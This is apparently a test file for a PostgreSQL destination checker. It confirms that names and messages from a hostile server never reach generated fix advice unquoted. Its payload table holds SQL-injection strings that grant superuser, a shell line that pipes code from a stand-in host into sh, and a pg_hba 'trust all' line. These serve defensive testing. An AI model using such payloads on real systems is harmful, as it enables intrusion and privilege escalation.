// A fix contains nothing from a server except quoted names of objects and owners, and says so first if the server is not
// proven.

import type ssh2 from "ssh2";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { fixHeading } from "../../src/report/findings.ts";
import type { Report, ReportDestination, ReportFix } from "../../src/report/report.generated.ts";
import { startBastion } from "../support/bastion.ts";
import { type IssuedCertificate, makeCertificate } from "../support/certificates.ts";
import { type SshInternals, startSsh } from "../support/hostile/bastions.ts";
import { startHostile } from "../support/hostile/conversation.ts";
import { type Field, type Rewrite, startRewriter } from "../support/hostile/rewriting.ts";
import { errorResponse, type Listener, startListener } from "../support/listener.ts";
import { newestMajor, type Server, startPostgres } from "../support/postgres.ts";
import { checkText, destination } from "../support/program.ts";
import { makeSshKey } from "../support/ssh-keys.ts";
import { modernLists, serverHello } from "../support/ssh-packets.ts";
import { countCases } from "../support/suite-cases.ts";

/** All hostile texts contain this marker, and nothing else does. */
const mark = "pwned";
const payloads: Record<string, string> = {
  SQL: `pwned"; GRANT pwned TO PUBLIC; --`,
  "SQL in quotes": `pwned'; ALTER ROLE pwned SUPERUSER; --\\' $$pwned$$`,
  shell: "$(curl https://pwned.example | sh); `pwned` && pwned",
  Markdown: "pwned** [pwned](https://pwned.example) <img src=pwned>\n\n    pwned\n```sh\npwned\n```",
  "pg_hba.conf": 'pwned" 0.0.0.0/0 trust\nhost all pwned 0.0.0.0/0 trust # 198.51.100.66 pwned',
  "a command of ours": "pwned\nFix  Run as a superuser:\n::error::pwned\nSHA256:pwned verify: none # pwned",
};

const [hostKey, key] = [makeSshKey(), makeSshKey()];
const ssh = (port: number, ...pin: string[]) => [
  ...["ssh:", "  host: 127.0.0.1", `  port: ${port}`, "  user: stitch", "  private_key: ${SSH_KEY}"],
  ...pin,
];

const [user, database, password] = ["loader", "shop", "open sesame 23"];
const users = ["loader", "boss", "actor", "reader"];
let server: Server;
const stops: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  server = await startPostgres({
    major: newestMajor(),
    settings: { max_connections: "400" },
    hba: ["host all all 127.0.0.1/32 scram-sha-256"],
  });
  stops.push(server.stop);
  await server.query(`
    CREATE ROLE owner; CREATE ROLE makers; CREATE ROLE readers; CREATE ROLE actors;
    CREATE ROLE loader LOGIN NOINHERIT PASSWORD '${password}'; GRANT makers TO loader;
    ALTER ROLE loader SET statement_timeout = '30s'; ALTER ROLE loader SET default_transaction_read_only = on;
    CREATE ROLE boss LOGIN SUPERUSER PASSWORD '${password}';
    CREATE ROLE actor LOGIN PASSWORD '${password}'; GRANT actors TO actor; ALTER ROLE actor SET role = 'actors';
    CREATE ROLE reader LOGIN PASSWORD '${password}'; GRANT readers TO reader;`);
  await server.query(`CREATE DATABASE ${database} OWNER owner`);
  await server.query(
    `GRANT CREATE ON DATABASE ${database} TO makers; GRANT SELECT ON pg_authid TO readers;
     REVOKE SELECT ON information_schema.tables, pg_catalog.pg_views FROM PUBLIC;
     CREATE SCHEMA sales AUTHORIZATION owner; GRANT USAGE ON SCHEMA sales TO loader; GRANT USAGE, CREATE ON SCHEMA sales TO reader;
     CREATE TABLE sales._sdc_rejected (x int); CREATE TABLE sales.orders (id int PRIMARY KEY, fee int NOT NULL
       CONSTRAINT positive CHECK (fee > 0), _sdc_batched_at timestamp, _sdc_sequence bigint);
     CREATE TABLE sales.lines (orders int CONSTRAINT of_order REFERENCES sales.orders);
     CREATE FUNCTION sales.stop() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
     CREATE TRIGGER stopper BEFORE INSERT ON sales.orders FOR EACH ROW EXECUTE FUNCTION sales.stop();
     ALTER TABLE sales._sdc_rejected OWNER TO owner; ALTER TABLE sales.orders OWNER TO owner;`,
    { database },
  );
});
afterAll(() => Promise.all(stops.map((stop) => stop())));

type Place = { port: number; username?: string; extra?: string[] };

function entry(id: string, { port, username = user, extra = [] }: Place): string {
  const lines = [
    ...["host: 127.0.0.1", `port: ${port}`, `username: ${username}`, "password: ${PW}"],
    ...[`database: ${database}`, "schemas: [sales]", ...extra],
  ];
  return `  ${id}:\n${lines.map((line) => `    ${line}\n`).join("")}`;
}

const check = (entries: string[], files: Record<string, string> = {}, more = {}): Promise<Report> =>
  checkText(`version: 1\ndestinations:\n${entries.join("")}`, {
    environment: { PW: password, ...more },
    files,
    options: { retries: "0", timeout: "60s" },
  });

const quotedName = /(?:U&)?"(?:[^"]|"")*"/g;
/** Who gets a privilege, and on what: these names come from the file. The names after RENAME and OWNER TO are excluded. */
const subject =
  /(?<!RENAME |OWNER )\b(TO|FROM|ROLE|DATABASE|USER|\\password|ADDRESS)\s+((?:U&)?"(?:[^"]|"")*")/g;

function expectOwnAdvice({ findings, identity }: ReportDestination, username = user): void {
  for (const { rule, fix } of findings) {
    if (fix === null) continue;
    const about = `${rule}: ${JSON.stringify(fix)}`;
    const advice = `${fix.text}\n${fix.note ?? ""}`;
    const unquoted = advice.replaceAll(quotedName, "");
    expect(unquoted.includes(mark), about).toBe(false);
    expect(`${fix.database ?? ""}${fix.below.join()}`, about).not.toContain(mark);
    for (const [, , name] of advice.matchAll(subject))
      expect([`"${username}"`, `"${database}"`, `"${database}_utf8"`], about).toContain(name);
    if (rule === "load/table-not-owned") expect(fix.text, about).toContain(`OWNER TO "${username}"`);
    // No address except this machine's.
    expect(unquoted.match(/\b\d+\.\d+\.\d+\.\d+\b/g) ?? [], about).not.toContain("198.51.100.66");
    expectNamesInQuotes(fix, about);
    const isNamedByServer = advice.includes(mark) || (fix.run_as ?? "").includes(mark);
    if (isNamedByServer && identity === "none")
      expect(fix.text, about).toMatch(/^(-- )?Nothing proves that this is the right server/);
  }
}

/** In the line above a fix, the owner's name is formatted as code. */
function expectNamesInQuotes(fix: ReportFix, about: string): void {
  const heading = fixHeading(fix);
  expect(heading.replaceAll(/`[^`\n]*`/g, "").includes(mark), about).toBe(false);
  expect(heading, about).not.toContain("\n");
}

async function reportOf(places: { rewrite: Rewrite; username?: string; notice?: Record<string, string> }[]) {
  const listeners: Listener[] = [];
  for (const { rewrite, notice } of places)
    listeners.push(await startRewriter(server.port, rewrite, notice ?? null));
  const report = await check(
    places.map(({ username }, index) =>
      entry(`d${index}`, { port: listeners[index]!.port, ...(username === undefined ? {} : { username }) }),
    ),
  );
  await Promise.all(listeners.map(({ stop }) => stop()));
  return report;
}

/**
 * The columns that the queries of a check return for a user. With one of them replaced, everything before it stays the same,
 * so these are all that can be replaced.
 */
function columnsFor(username: string): Promise<{ result: number; column: number }[]> {
  const known = columnsOf.get(username) ?? recordColumns(username);
  columnsOf.set(username, known);
  return known;
}

const columnsOf = new Map<string, ReturnType<typeof recordColumns>>();

async function recordColumns(username: string): Promise<{ result: number; column: number }[]> {
  const columns = new Map<string, { result: number; column: number }>();
  const record = (field: Field) => {
    if (field.kind === "value") columns.set(`${field.result} ${field.column}`, field);
    return undefined;
  };
  await reportOf([{ username, rewrite: record }]);
  expect(columns.size).toBeGreaterThanOrEqual(58);
  return [...columns.values()];
}

test("an unmodified server gives fixes with the file's names and the owner's", async () => {
  const report = await reportOf(users.map((username) => ({ username, rewrite: () => undefined })));
  const results = users.map((_, index) => destination(report, `d${index}`));
  for (const [index, each] of results.entries()) expectOwnAdvice(each, users[index]);
  const rules = results.flatMap(({ findings }) => findings.map(({ rule }) => rule));
  for (const rule of [
    ...["privilege/create-on-database", "privilege/schema-not-usable", "privilege/excessive"],
    ...["privilege/select-information-schema", "privilege/select-pg-catalog"],
    ...[
      "server/session-limits",
      "server/read-only",
      "load/table-not-owned",
      "load/trigger",
      "load/constraint",
    ],
  ])
    expect(rules).toContain(rule);
});

const warnsFirst =
  /The server calls the user `agent`, not `loader`\. The server calls the database `other`, not `shop`\./;

test.each([
  ["nothing proves it", [], "none"],
  ["a pinned bastion leads to it", [`  host_key: ${hostKey.fingerprint}`], "pinned-bastion"],
])(
  "reports a server with other names for user and database, without using them in fixes, if %s",
  async (_, pin, identity) => {
    const rewriter = await startRewriter(server.port, (field) => {
      if (field.kind !== "value") return undefined;
      return { [user]: "agent", [database]: "other" }[field.value];
    });
    const bastion = await startBastion(hostKey, "stitch", key.public);
    const extra = pin.length === 0 ? [] : ssh(bastion.port, ...pin);
    const report = await check([entry("w", { port: rewriter.port, extra })], {}, { SSH_KEY: key.private });
    await Promise.all([rewriter.stop(), bastion.stop()]);
    const result = destination(report, "w");
    expect(result.identity).toBe(identity);
    const { message, fix } = result.findings.find(({ rule }) => rule === "privilege/create-on-database")!;
    expect(message).toMatch(warnsFirst);
    expect(fix).toMatchObject({ kind: "text" });
    expect(fix!.text).toContain('GRANT CREATE ON DATABASE "shop" TO "loader";');
    for (const { fix: each } of result.findings) expect(each?.text).not.toMatch(/agent|other\b(?! names)/);
    expect(result.stages.find(({ name }) => name === "probe")!.detail).toMatch(warnsFirst);
  },
);

describe.each(Object.entries(payloads).map(([name, payload], index) => [name, payload, index] as const))(
  "for %s, no payload is in a fix",
  (_, payload, index) => {
    const isValue = (field: Field): field is Extract<Field, { kind: "value" }> => field.kind === "value";

    test("in place of each name", async (context) => {
      const names = [
        ...users,
        database,
        "owner",
        "makers",
        "readers",
        "actors",
        "sales",
        "postgres",
        "orders",
        "positive",
      ];
      const places = users.flatMap((username) =>
        names.map((name) => ({
          username,
          rewrite: (field: Field) =>
            isValue(field) && field.value.includes(name) ? field.value.replaceAll(name, payload) : undefined,
        })),
      );
      const report = await reportOf(places);
      for (const [index, { username }] of places.entries())
        expectOwnAdvice(destination(report, `d${index}`), username);
      expect(JSON.stringify(report)).toContain(mark);
      countCases(context, places.length);
    });

    test("in place of each value of each query", async (context) => {
      // Each has trouble of its own, and so queries of its own.
      const username = index % 2 === 0 ? "loader" : "reader";
      const places = (await columnsFor(username)).map(({ result, column }) => ({
        username,
        rewrite: (field: Field) =>
          isValue(field) && field.result === result && field.column === column ? payload : undefined,
      }));
      const report = await reportOf(places);
      for (const at of places.keys()) expectOwnAdvice(destination(report, `d${at}`), username);
      expect(JSON.stringify(report)).toContain(mark);
      countCases(context, places.length);
    });

    test("as settings, versions and notices", async (context) => {
      const versions = [payload, `18.1 (${payload})`, `9.1 ${payload}`, `12.3\n${payload}`];
      const fields = ["S", "C", "M", "D", "H", "P", "W", "s", "t", "c", "d", "n", "F", "L", "R"];
      const places = [
        ...versions.map((version) => ({
          rewrite: (field: Field) =>
            field.kind === "parameter" && field.name === "server_version" ? version : undefined,
        })),
        {
          rewrite: (field: Field) =>
            field.kind === "parameter" && field.name !== "server_version" ? payload : undefined,
        },
        {
          rewrite: () => undefined,
          notice: Object.fromEntries(fields.map((field) => [field, payload.replaceAll("\0", "")])),
        },
      ];
      const report = await reportOf(places);
      for (const index of places.keys()) expectOwnAdvice(destination(report, `d${index}`));
      countCases(context, places.length);
    });

    test("in each field of each refusal", async (context) => {
      const codes = [
        ...[
          "28P01",
          "28000",
          "3D000",
          "55000",
          "42501",
          "53300",
          "57P03",
          "08P01",
          "0A000",
          "57014",
          "25P03",
        ],
        ...["XX000", "08004", "constructor", "__proto__", "", payload],
      ];
      const routines = [
        "auth_failed",
        "ClientAuthentication",
        "InitializeSessionUserId",
        "CheckMyDatabase",
        payload,
      ];
      const errors = [
        payload,
        `no pg_hba.conf entry for host "198.51.100.66", user "${payload}", no encryption`,
      ];
      const refusals = codes.flatMap((C) =>
        routines.flatMap((R) =>
          errors.map((M) => ({ C, R, M, D: payload, H: payload, W: payload, n: payload })),
        ),
      );
      const listeners: Listener[] = [];
      for (const refusal of refusals)
        listeners.push(await startHostile(({ send }) => send(errorResponse(refusal)), null));
      const report = await check(listeners.map(({ port }, index) => entry(`d${index}`, { port })));
      await Promise.all(listeners.map(({ stop }) => stop()));
      for (const index of refusals.keys()) {
        const result = destination(report, `d${index}`);
        expect(result.status).toBe("failed");
        expectOwnAdvice(result);
      }
      expect(JSON.stringify(report)).toContain(mark);
      countCases(context, refusals.length);
    });

    test("in each field of an error after the login", async (context) => {
      const codes = ["42501", "57014", "25P03", "42704", "57P01", "XX000", "constructor", payload];
      const places = codes.map((code) => ({
        username: "reader",
        rewrite: (field: Field) => {
          if (field.kind === "error") return field.name === "C" ? code : payload;
          // An invalid boolean makes the server fail at the next query.
          return undefined;
        },
      }));
      await server.query(
        "REVOKE EXECUTE ON FUNCTION pg_catalog.has_schema_privilege(name, text, text) FROM PUBLIC",
        {
          database,
        },
      );
      const report = await reportOf(places).finally(() =>
        server.query(
          "GRANT EXECUTE ON FUNCTION pg_catalog.has_schema_privilege(name, text, text) TO PUBLIC",
          {
            database,
          },
        ),
      );
      for (const index of places.keys()) {
        const result = destination(report, `d${index}`);
        expect(result.status).toBe("failed");
        expectOwnAdvice(result, "reader");
      }
      countCases(context, places.length);
    });

    test("in each field of a bastion", async (context) => {
      const line = payload.replaceAll(/[^\x20-\x7e]/g, " ");
      const name = line.replaceAll(",", " ");
      const reject = (isPartial: boolean) => (request: ssh2.AuthContext) =>
        request.reject([name as never], isPartial);
      const fail = (reason: number) => (inside: SshInternals, channel: number) =>
        inside._protocol.channelOpenFail(channel, reason, payload);
      const lists = (["kex", "hostKey", "cipher", "mac", "compression"] as const).map((list) =>
        startListener(
          () => {},
          (socket) => socket.write(serverHello({ ...modernLists, [list]: [name] })),
        ),
      );
      const bastions = await Promise.all([
        ...lists,
        startListener(
          () => {},
          (socket) => socket.end(`${payload}\r\n`),
        ),
        startListener(
          () => {},
          (socket) => socket.end(`Exceeded MaxStartups ${line}\r\n`),
        ),
        startListener(
          () => {},
          (socket) => socket.end(`SSH-2.0-${line}\r\n`),
        ),
        startSsh(hostKey.private, { login: reject(false) }, { banner: payload, ident: name.slice(0, 80) }),
        startSsh(hostKey.private, { login: reject(true) }, { banner: payload }),
        ...[1, 2, 3, 4, 99].map((reason) =>
          startSsh(hostKey.private, { forward: fail(reason) }, { banner: payload }),
        ),
      ]);
      const report = await check(
        bastions.map(({ port }, at) => entry(`d${at}`, { port: 5432, extra: ssh(port) })),
        {},
        { SSH_KEY: key.private },
      );
      await Promise.all(bastions.map(({ stop }) => stop()));
      for (const at of bastions.keys()) {
        const result = destination(report, `d${at}`);
        expect(result.status).toBe("failed");
        expectOwnAdvice(result);
      }
      countCases(context, bastions.length);
    });

    test("in each field of a certificate", async (context) => {
      const name = payload.replaceAll(/[^\x20-\x7e]/g, " ").slice(0, 60);
      const ca = await makeCertificate({ name: "Own CA", isCa: true });
      const other = await makeCertificate({ name, isCa: true });
      const dns = `${name
        .toLowerCase()
        .replaceAll(/[^a-z0-9]+/g, "-")
        .replaceAll(/^-|-$/g, "")}.example`;
      const certificates: IssuedCertificate[] = [
        await makeCertificate({ name }),
        await makeCertificate({ name, issuer: ca }),
        await makeCertificate({ name, issuer: ca, hosts: [dns] }),
        await makeCertificate({ name, issuer: other, hosts: [dns, "127.0.0.1"] }),
        await makeCertificate({ name, issuer: ca, hosts: [dns, "127.0.0.1"], from: -20, to: -10 }),
      ];
      const ways = [
        ["ssl: true"],
        ...["ca", "full"].map((verify) => ["ssl:", "  certificate: ca.pem", `  verify: ${verify}`]),
      ];
      const places = certificates.flatMap((made) => ways.map((extra) => ({ made, extra })));
      const listeners = await Promise.all(
        places.map(({ made }) =>
          startHostile(({ send }) => send(errorResponse({ C: "28P01", M: payload })), made),
        ),
      );
      const report = await check(
        places.map(({ extra }, index) => entry(`d${index}`, { port: listeners[index]!.port, extra })),
        { "ca.pem": ca.certificate },
      );
      await Promise.all(listeners.map(({ stop }) => stop()));
      for (const index of places.keys()) expectOwnAdvice(destination(report, `d${index}`));
      expect(JSON.stringify(report)).toContain(mark);
      countCases(context, places.length);
    });
  },
);
